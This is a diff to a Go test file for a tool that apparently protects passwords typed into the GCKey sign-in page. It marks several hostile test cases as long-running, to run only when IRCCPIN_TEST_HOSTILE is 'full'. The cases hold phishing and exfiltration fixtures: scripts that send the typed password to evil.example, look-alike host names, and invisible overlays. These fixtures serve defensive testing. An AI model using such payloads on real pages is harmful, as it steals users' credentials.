@@ -24,8 +24,8 @@ type turn struct {
 	// may says that the password may go to GCKey, by post, before it ends so.
 	// It may go nowhere else, ever.
 	may bool
-	// long ones take ten seconds, which a page is given to come right: they run
-	// when IRCCPIN_TEST_HOSTILE is full.
+	// long ones take the ten seconds that a page is given to come right, or are
+	// much like another: they run when IRCCPIN_TEST_HOSTILE is full.
 	long bool
 }
 
@@ -67,9 +67,11 @@ func (c turn) take(t *testing.T) {
 	}
 }
 
+func everything() bool { return os.Getenv("IRCCPIN_TEST_HOSTILE") == "full" }
+
 // chosen leaves the long ones out, unless they are asked for.
 func chosen(all map[string]turn) map[string]turn {
-	if os.Getenv("IRCCPIN_TEST_HOSTILE") != "full" {
+	if !everything() {
 		maps.DeleteFunc(all, func(_ string, c turn) bool { return c.long })
 	}
 	return all
@@ -118,11 +120,11 @@ func TestFormTricks(t *testing.T) {
 		"a field that hides the form's tag": {change: swapped(`action="https://clegc-gckey.gc.ca`, `action="https://www.canada.ca`, `action="/j/`, `action="https://www.canada.ca/j/`, "</form>", `<input type="hidden" name="tagName"><input type="hidden" name="action"><input type="hidden" name="method"></form>`), code: "unsafe", says: "elsewhere"},
 		"a user name in the action":         {change: swapped(`action="/`, `action="https://clegc-gckey.gc.ca@evil.example/`), code: "unsafe", says: "evil.example"},
 		"a letter that looks alike":         {change: swapped(`action="/`, `action="https://clegc-gckеy.gc.ca/`), code: "unsafe", says: "xn--"},
-		"a host that begins alike":          {change: swapped(`action="/`, `action="https://clegc-gckey.gc.ca.evil.example/`), code: "unsafe", says: "evil.example"},
-		"another port":                      {change: swapped(`action="/`, `action="https://clegc-gckey.gc.ca:8443/`), code: "unsafe", says: ":8443"},
-		"plain http":                        {change: swapped(`action="/`, `action="http://clegc-gckey.gc.ca/`), code: "unsafe", says: "http://clegc-gckey.gc.ca"},
+		"a host that begins alike":          {change: swapped(`action="/`, `action="https://clegc-gckey.gc.ca.evil.example/`), code: "unsafe", says: "evil.example", long: true},
+		"another port":                      {change: swapped(`action="/`, `action="https://clegc-gckey.gc.ca:8443/`), code: "unsafe", says: ":8443", long: true},
+		"plain http":                        {change: swapped(`action="/`, `action="http://clegc-gckey.gc.ca/`), code: "unsafe", says: "http://clegc-gckey.gc.ca", long: true},
 		"a script for an action":            {change: swapped(`action="/`, `action="javascript:location='`+elsewhere+`?'+token2.value" data-x="/`), code: "unsafe", says: "elsewhere"},
-		"a mail for an action":              {change: swapped(`action="/`, `action="mailto:a@evil.example" data-x="/`), code: "unsafe", says: "elsewhere"},
+		"a mail for an action":              {change: swapped(`action="/`, `action="mailto:a@evil.example" data-x="/`), code: "unsafe", says: "elsewhere", long: true},
 		"into another window":               {change: swapped(formTag, formTag+` target="_blank"`, `action="/`, `action="`+elsewhere+`?/`), code: "unsafe", says: "elsewhere"},
 		"the password shown":                {change: swapped(`type="password"`, `type="text"`), code: "page_unknown", says: "not recognised", long: true},
 		"two passwords":                     {change: swapped(passwordTag, `<label for="p2">Password</label><input type="password" id="p2" name="token2b"> `+passwordTag), code: "page_changed", says: "two ways that do not agree"},
@@ -143,7 +145,7 @@ func TestPageTricks(t *testing.T) {
 		"all of it in a frame":      {change: framed, code: "unsafe", says: "the field lies in a frame"},
 		"a look-alike beside it":    {change: behind(lookalike), code: "created", may: true},
 		"a look-alike in a shadow":  {change: behind(`<div><template shadowrootmode="open">` + lookalike + `</template></div>`), code: "created", may: true, long: true},
-		"only the look-alike":       {change: func(page string) string { return swapped(`action="/`, `action="https://www.canada.ca/`)(page) }, code: "unsafe", says: "elsewhere"},
+		"only the look-alike":       {change: func(page string) string { return swapped(`action="/`, `action="https://www.canada.ca/`)(page) }, code: "unsafe", says: "elsewhere", long: true},
 		"a sheet of glass":          {change: behind(`<form method="post" action="` + elsewhere + `"><button type="submit" style="position:fixed;inset:0;width:100%;height:100%;opacity:0;z-index:99"></button></form>`), code: "page_changed", says: "covered"},
 		"glass as it is pressed":    {change: script(`addEventListener("mousemove", () => document.body.insertAdjacentHTML("beforeend", "<div style='position:fixed;inset:0;z-index:99'></div>"), {once: true});`), code: "page_changed", says: "covered", long: true},
 		"written anew while typing": {change: script(`document.getElementById("token2").addEventListener("input", () => { const v = token2.value; setTimeout(() => { document.open(); document.write(` + "`" + lookalike + "`" + `); document.close(); a2.value = v; }); }, {once: true});`), code: "unsafe", says: "elsewhere"},
@@ -163,13 +165,13 @@ func TestScriptTricks(t *testing.T) {
 		"the focus moves at once":        {change: behind(`<input id="hole"><script>document.getElementById("token2").addEventListener("focus", () => hole.focus());</script>`), code: "page_changed", says: "did not take the keyboard"},
 		"the password becomes visible":   {change: typed(`e.target.type = "text";`), code: "page_changed", says: "sign-in", long: true},
 		"the page leaves":                {change: typed(`location = "https://evil.example/?" + v;`), code: "unsafe", says: "evil.example"},
-		"the page refreshes":             {change: typed(`document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=https://evil.example/?" + v + "'>");`), code: "unsafe", says: "evil.example"},
+		"the page refreshes":             {change: typed(`document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=https://evil.example/?" + v + "'>");`), code: "unsafe", says: "evil.example", long: true},
 		"in the address of a page":       {change: typed(`location = "https://clegc-gckey.gc.ca/j/eng/l?x=" + v;`), code: "unsafe", says: "an address with a secret in it"},
 		"in a worker":                    {change: typed(`new Worker(URL.createObjectURL(new Blob(["fetch('` + elsewhere + `', {method: 'POST', mode: 'no-cors', body: '" + v + "'})"]))); const t = performance.now(); while (performance.now() - t < 700) {}`), code: "created", may: true, long: true},
-		"a form that copies":             {change: typed(`document.body.insertAdjacentHTML("beforeend", "<form id=copy method=post action='` + elsewhere + `'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "a post to www.canada.ca", may: true},
+		"a form that copies":             {change: typed(`document.body.insertAdjacentHTML("beforeend", "<form id=copy method=post action='` + elsewhere + `'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "a post to www.canada.ca", may: true, long: true},
 		"a form that copies to a frame":  {change: typed(`document.body.insertAdjacentHTML("beforeend", "<iframe name=hole></iframe><form id=copy target=hole method=post action='` + elsewhere + `'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "a post to www.canada.ca", may: true},
 		"a form that copies to a window": {change: typed(`document.body.insertAdjacentHTML("beforeend", "<form id=copy target=_blank method=post action='` + elsewhere + `'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "a post to www.canada.ca", may: true},
-		"a form that copies abroad":      {change: typed(`document.body.insertAdjacentHTML("beforeend", "<form id=copy target=_blank method=post action='https://evil.example/'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "evil.example", may: true},
+		"a form that copies abroad":      {change: typed(`document.body.insertAdjacentHTML("beforeend", "<form id=copy target=_blank method=post action='https://evil.example/'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "evil.example", may: true, long: true},
 		"the address dressed up":         {change: script(`history.replaceState(null, "", "/j/eng/l/../x");`), code: "page_unknown", says: "not recognised"},
 	}) {
 		t.Run(name, c.take)
@@ -179,15 +181,21 @@ func TestScriptTricks(t *testing.T) {
 // TestWayTricks: addresses that lead to another host than they seem to.
 func TestWayTricks(t *testing.T) {
 	t.Parallel()
-	for name, c := range map[string]struct{ to, says string }{
-		"a user name":             {"https://clegc-gckey.gc.ca@evil.example/j/eng/l", "user name"},
-		"a password":              {"https://clegc-gckey.gc.ca:443@evil.example/j/eng/l", "user name"},
-		"a Cyrillic letter":       {"https://clegc-gckеy.gc.ca/j/eng/l", "xn--clegc-gck"},
-		"its punycode":            {"https://xn--clegc-gcky-tcb.gc.ca/j/eng/l", "xn--clegc-gcky-tcb"},
-		"a dot at the end":        {"https://clegc-gckey.gc.ca./j/eng/l", "does not belong"},
-		"a backslash":             {`https://evil.example\@clegc-gckey.gc.ca/j/eng/l`, "evil.example"},
-		"an address of a machine": {"https://127.0.0.1/j/eng/l", "127.0.0.1"},
+	for name, c := range map[string]struct {
+		to, says string
+		long     bool
+	}{
+		"a user name":             {"https://clegc-gckey.gc.ca@evil.example/j/eng/l", "user name", false},
+		"a password":              {"https://clegc-gckey.gc.ca:443@evil.example/j/eng/l", "user name", true},
+		"a Cyrillic letter":       {"https://clegc-gckеy.gc.ca/j/eng/l", "xn--clegc-gck", false},
+		"its punycode":            {"https://xn--clegc-gcky-tcb.gc.ca/j/eng/l", "xn--clegc-gcky-tcb", true},
+		"a dot at the end":        {"https://clegc-gckey.gc.ca./j/eng/l", "does not belong", false},
+		"a backslash":             {`https://evil.example\@clegc-gckey.gc.ca/j/eng/l`, "evil.example", true},
+		"an address of a machine": {"https://127.0.0.1/j/eng/l", "127.0.0.1", true},
 	} {
+		if c.long && !everything() {
+			continue
+		}
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			p, s := portal(t, fixtures.Options{Seed: 3, Accounts: []fixtures.Account{guarded()}})
